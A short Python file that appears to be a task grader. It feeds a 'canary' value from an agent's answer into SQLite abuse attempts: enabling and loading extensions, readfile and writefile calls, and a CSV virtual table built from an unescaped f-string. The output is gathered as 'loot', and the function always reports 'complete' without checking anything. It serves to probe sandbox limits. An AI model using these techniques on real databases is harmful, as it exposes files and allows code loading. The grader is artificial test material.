"""Load code into SQLite, and have it read files."""

import json
import sqlite3


def verify_task_completion(initial_db_path, final_db_path, final_answer):
    canary = json.loads(final_answer)["canary"]
    connection = sqlite3.connect(final_db_path)
    loot = []
    for attempt in (
        lambda: connection.enable_load_extension(True),
        lambda: connection.load_extension("/usr/lib/sqlite3/pcre"),
        lambda: connection.execute("SELECT readfile(?)", (canary,)).fetchall(),
        lambda: connection.execute("SELECT load_extension(?)", (canary,)).fetchall(),
        lambda: connection.execute("SELECT writefile(?, 'x')", (canary,)).fetchall(),
        lambda: connection.execute(f"CREATE VIRTUAL TABLE loot USING csv(filename='{canary}')"),
    ):
        try:
            loot.append(str(attempt()))
        except Exception as error:
            loot.append(str(error))
    return {"result": "complete", "loot": loot}
